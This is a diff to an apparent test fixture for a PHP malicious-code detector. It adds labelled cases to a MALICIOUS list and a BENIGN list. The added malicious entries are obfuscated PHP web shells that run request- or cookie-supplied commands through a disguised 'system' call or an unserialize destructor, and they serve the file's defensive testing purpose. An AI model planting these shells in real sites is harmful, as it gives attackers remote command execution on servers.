@@ -507,6 +507,31 @@ MALICIOUS = [
         " $fn[1]($_GET['q']);",
         CMD,
     ),
+    (
+        "a literal head of a function name the request finishes",
+        "<?php $run = 'syst' . $_COOKIE['t']; $run($_COOKIE['c']);",
+        DYN,
+    ),
+    (
+        "a name read byte by byte past the end of its constant (a silenced empty read)",
+        "<?php $k = 'c3lz' . 'tem'; $n = base64_decode($k[0] . $k[1] . $k[2] . $k[3]) . $k[4] . $k[5] . $k[6]"
+        " . @$k[7] . @$k[9]; $n($_GET['q']);",
+        CMD,
+    ),
+    (
+        "name decoded by a helper whose loop appends the long way with an affine byte map",
+        "<?php function unmap($w) { $o = ''; for ($j = 0; $j < strlen($w); $j++) {"
+        " $o = $o . chr((((ord(substr($w, $j, 1)) - 97) * 3 + 5) % 26) + 97); } return $o; }"
+        " call_user_func(unmap('npnwrl'), $_REQUEST['v']);",
+        CMD,
+    ),
+    (
+        "request text spliced into a serialized object a destructor runs",
+        "<?php class Job { public $arg = ''; public $fn = 'system'; function __destruct() {"
+        " call_user_func($this->fn, $this->arg); } } $v = $_GET['v'];"
+        " unserialize('O:3:\"Job\":1:{s:3:\"arg\";s:' . strlen($v) . ':\"' . $v . '\";}');",
+        CMD,
+    ),
 ]
 
 
@@ -754,6 +779,20 @@ BENIGN = [
         "a label shifted in place for display",
         "<?php $s = 'Ifmmp'; for ($i = 0; $i < strlen($s); $i++) { $s[$i] = chr(ord($s[$i]) - 1); }"
         " echo $s . htmlspecialchars($_GET['n']);",
+    ),
+    (
+        "an action handler picked by a prefix and the request's action name",
+        "<?php function action_list() { echo 'list'; } $h = 'action_' . $_GET['do'];"
+        " if (function_exists($h)) { $h(); }",
+    ),
+    (
+        "a label built by a loop appending the long way",
+        "<?php $s = 'Ifmmp'; $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o = $o . chr(ord($s[$i]) - 1); }"
+        " echo $o . htmlspecialchars($_GET['n']);",
+    ),
+    (
+        "a cached list unserialized from the application's own file",
+        "<?php $v = file_get_contents('cache/list.txt'); $l = unserialize($v); echo count($l) . htmlspecialchars($_GET['n']);",
     ),
     (
         "a table of formatter names normalised by a loop and applied to input",
